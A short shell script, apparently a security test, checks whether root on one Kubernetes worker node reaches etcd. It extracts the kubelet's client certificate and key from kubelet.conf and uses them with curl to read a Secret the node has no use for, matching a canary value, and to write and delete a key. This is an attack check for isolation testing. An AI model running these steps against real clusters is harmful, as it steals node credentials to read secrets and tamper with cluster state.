# Somebody with root on any one worker, which has a kubelet.conf and nothing of etcd's.
# Exit 0: that file read etcd, or wrote it.
won=no
b64() { printf %s "$1" | base64 -w0; }
# Where the file names others, kubectl puts what is in them in their place; and the server that it
# names, which is not asked, may be known to the node alone.
for part in certificate key; do
  kubectl config view --raw --kubeconfig etc/kubernetes/kubelet.conf --server="https://$APISERVER" -o jsonpath="{.users[0].user.client-$part-data}" | base64 -d > "tmp/kubelet.$part"
done
etcd() { curl -sSfk -m 5 --cert tmp/kubelet.certificate --key tmp/kubelet.key "https://$ETCD/v3/kv/$1" -d "$2"; }

echo "a Secret that no pod of this node uses:"
if etcd range "{\"key\": \"$(b64 /registry/secrets/orders/bank)\"}" > tmp/answer &&
  jq -r '.kvs[].value' tmp/answer | base64 -d | grep -a -o 'amber-heron-[0-9]*'; then
  won=yes
fi

echo "a key of its own:"
if etcd put "{\"key\": \"$(b64 /registry/was/here)\", \"value\": \"$(b64 yes)\"}"; then
  etcd deleterange "{\"key\": \"$(b64 /registry/was/here)\"}" > /dev/null
  won=yes
fi

[ "$won" = yes ]
